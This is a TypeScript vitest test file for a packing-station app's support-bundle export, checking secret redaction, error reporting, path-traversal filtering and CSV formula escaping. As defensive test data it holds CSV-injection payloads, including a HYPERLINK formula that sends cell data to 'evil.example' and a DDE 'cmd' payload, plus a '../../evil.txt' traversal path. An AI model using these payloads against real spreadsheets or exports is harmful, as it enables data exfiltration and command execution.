import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { afterEach, describe, expect, it } from 'vitest';
import { createLogger } from '../../../src/main/logging/logger';
import { createRedactor } from '../../../src/main/logging/redaction';
import { createRotatingFileSink } from '../../../src/main/logging/rotating-file-sink';
import { emptyRunOptions } from '../../../src/main/printing/journal/journal-rows';
import { PrintJournal } from '../../../src/main/printing/journal/print-journal';
import { SqliteEngine } from '../../../src/main/store/engine/sqlite-engine';
import { openDatabase } from '../../../src/main/store/database';
import { journalPart, logsPart, settingsPart, versionsPart } from '../../../src/main/support/bundle-parts';
import { printJournalExport } from '../../../src/main/support/journal-export';
import { saveSupportBundle, supportBundleFileName, type SupportBundlePart } from '../../../src/main/support/support-bundle';

const folders: string[] = [];
const tempFolder = () => {
  const folder = mkdtempSync(join(tmpdir(), 'station-bundle-'));
  folders.push(folder);
  return folder;
};
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

const KEY = 'sk_live_bundle_0123456789';

function stationWithLogs() {
  const folder = tempFolder();
  const redactor = createRedactor();
  const sink = createRotatingFileSink({ directory: join(folder, 'logs'), maxBytes: 2048, maxFiles: 3 });
  const logger = createLogger(sink.write, { redactor });
  redactor.addSecret(KEY);
  for (let index = 0; index < 60; index += 1) logger.info('label printed', { order: `REF-${index}`, headers: { 'api-key': KEY } });
  sink.close();
  return { folder, redactor, sink };
}

const unzip = (file: string) => {
  const entries = unzipSync(new Uint8Array(readFileSync(file)));
  return Object.fromEntries(Object.entries(entries).map(([path, bytes]) => [path, strFromU8(bytes)]));
};

describe('the support bundle', () => {
  it('holds the logs, the settings without secrets, the journal, the versions and a manifest', async () => {
    const { folder, redactor, sink } = stationWithLogs();
    const file = join(folder, 'bundle.zip');
    const journal = { lastDay: (now: Date) => [{ path: 'journal/last-day.csv', content: `printed_at,order\n${now.toISOString()},REF-59\n` }] };
    const manifest = await saveSupportBundle(file, {
      product: 'Packing Station 1.0.0',
      redactor,
      clock: () => new Date('2026-03-02T08:15:00Z'),
      parts: [
        logsPart(() => sink.files()),
        settingsPart(() => ({ station: { environment: 'live', stationName: 'Bench 4' }, desktop: { kiosk: true }, proxy: { password: 'hunter22' }, apiKey: KEY }), redactor),
        journalPart(journal, () => new Date('2026-03-02T08:15:00Z')),
        versionsPart(() => ({ app: '1.0.0', electron: '45.4.1', node: '22.20.0' })),
      ],
    });

    const files = unzip(file);
    expect(Object.keys(files).sort()).toEqual(
      ['journal/last-day.csv', 'logs/station.1.log', 'logs/station.2.log', 'logs/station.log', 'manifest.json', 'settings.json', 'versions.json'],
    );
    expect(JSON.parse(files['settings.json'] ?? '')).toEqual({
      station: { environment: 'live', stationName: 'Bench 4' },
      desktop: { kiosk: true },
      proxy: { password: '[redacted]' },
      apiKey: '[redacted]',
    });
    expect(files['logs/station.log']).toContain('REF-59');
    expect(files['journal/last-day.csv']).toContain('2026-03-02T08:15:00.000Z,REF-59');
    expect(JSON.parse(files['versions.json'] ?? '')).toMatchObject({ app: '1.0.0', electron: '45.4.1' });
    expect(JSON.parse(files['manifest.json'] ?? '')).toEqual(manifest);
    expect(manifest.parts.map((part) => part.name)).toEqual(['logs', 'settings', 'journal', 'versions']);
    for (const [path, content] of Object.entries(files)) {
      expect(content, path).not.toContain(KEY);
      expect(content, path).not.toContain('hunter22');
    }
  });

  it('still saves the other parts when one provider fails, and says which failed', async () => {
    const { folder, redactor, sink } = stationWithLogs();
    const file = join(folder, 'bundle.zip');
    const broken: SupportBundlePart = {
      name: 'journal',
      collect: () => {
        throw new Error(`the journal could not be read (key ${KEY})`);
      },
    };
    const manifest = await saveSupportBundle(file, { product: 'Packing Station', redactor, parts: [broken, logsPart(() => sink.files())] });
    expect(manifest.parts[0]).toEqual({ name: 'journal', files: [], error: 'the journal could not be read (key [redacted])' });
    expect(Object.keys(unzip(file))).toContain('logs/station.log');
  });

  it('keeps files inside the archive and never lets a part overwrite the manifest', async () => {
    const folder = tempFolder();
    const file = join(folder, 'bundle.zip');
    const sneaky: SupportBundlePart = {
      name: 'sneaky',
      collect: () => [
        { path: '../../evil.txt', content: 'x' },
        { path: 'manifest.json', content: '{}' },
        { path: 'notes/ok.txt', content: 'fine' },
      ],
    };
    const manifest = await saveSupportBundle(file, { product: 'Packing Station', redactor: createRedactor(), parts: [sneaky] });
    expect(manifest.parts[0]?.files).toEqual(['notes/ok.txt']);
    expect(Object.keys(unzip(file)).sort()).toEqual(['manifest.json', 'notes/ok.txt']);
    expect(readdirSync(folder)).toEqual(['bundle.zip']);
  });

  it('is named after the bench and the time', () => {
    expect(supportBundleFileName('Bench 4 / Dock', new Date('2026-03-02T08:15:00Z'))).toBe('packing-station-support-bench-4-dock-20260302-0815.zip');
  });

  it("carries the print journal's last 24 hours from the real journal, oldest first", async () => {
    const folder = tempFolder();
    const db = openDatabase(join(folder, 'station.db'));
    let now = new Date('2026-03-01T06:00:00Z');
    const journal = new PrintJournal(new SqliteEngine(db, false), () => now);
    const options = emptyRunOptions();
    const label = (orderId: string) => ({ orderId, bundleId: null, bundlePosition: null, bundleCount: null, format: 'zpl' as const });
    await journal.runRecords.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: 'ana', options, labels: [label('ORD-DAY-BEFORE')] });
    now = new Date('2026-03-02T07:00:00Z');
    const late = await journal.runRecords.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: 'ana', options, labels: [label('ORD-LIVE')] });
    await journal.labels.markSent(late.entries[0]?.id ?? -1);
    await journal.labels.markPrinted([late.entries[0]?.id ?? -1]);
    now = new Date('2026-03-02T06:00:00Z');
    const earlier = await journal.runRecords.createRun({ environment: 'test', kind: 'single', printerId: 'zebra-2', operator: 'bo', options, labels: [label('ORD-TEST')] });
    await journal.labels.markFailed(earlier.entries[0]?.id ?? -1, 'paper out, "head" open');

    const file = join(folder, 'bundle.zip');
    const clock = () => new Date('2026-03-02T08:15:00Z');
    await saveSupportBundle(file, { product: 'Packing Station', redactor: createRedactor(), clock, parts: [journalPart(printJournalExport(journal.history), clock)] });
    db.close();

    const csv = (unzip(file)['journal/last-day.csv'] ?? '').trim().split('\n');
    expect(csv[0]?.split(',').slice(0, 4)).toEqual(['id', 'environment', 'queuedAt', 'state']);
    expect(csv).toHaveLength(3);
    expect(csv[1]).toContain('ORD-TEST');
    expect(csv[1]).toContain('"paper out, ""head"" open"');
    expect(csv[2]).toContain('ORD-LIVE');
    expect(csv[2]).toContain(',printed,');
    expect(csv.join('\n')).not.toContain('ORD-DAY-BEFORE');
  });

  it('writes journal cells that a spreadsheet would run as formulas as plain text', async () => {
    const folder = tempFolder();
    const db = openDatabase(join(folder, 'station.db'));
    const journal = new PrintJournal(new SqliteEngine(db, false), () => new Date('2026-03-02T07:00:00Z'));
    const label = (orderId: string) => ({ orderId, bundleId: null, bundlePosition: null, bundleCount: null, format: 'zpl' as const });
    const hostile = {
      operator: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      reasons: ["+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'],
    };
    const run = await journal.runRecords.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: hostile.operator, options: emptyRunOptions(), labels: hostile.reasons.map((_, index) => label(`ORD-${index}`)) });
    for (const [index, reason] of hostile.reasons.entries()) await journal.labels.markFailed(run.entries[index]?.id ?? -1, reason);

    const file = join(folder, 'bundle.zip');
    const clock = () => new Date('2026-03-02T08:15:00Z');
    await saveSupportBundle(file, { product: 'Packing Station', redactor: createRedactor(), clock, parts: [journalPart(printJournalExport(journal.history), clock)] });
    db.close();

    const rows = parseCsv(unzip(file)['journal/last-day.csv'] ?? '');
    const header = rows[0] ?? [];
    const body = rows.slice(1);
    expect(body).toHaveLength(5);
    const column = (name: string) => body.map((row) => row[header.indexOf(name)]);
    expect(column('operator')).toEqual(Array(5).fill(`'${hostile.operator}`));
    expect(column('reason')).toEqual(hostile.reasons.map((reason) => `'${reason}`));
    for (const row of body) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\n' || (char === '\r' && text[index + 1] === '\n')) {
      if (char === '\r') index += 1;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}
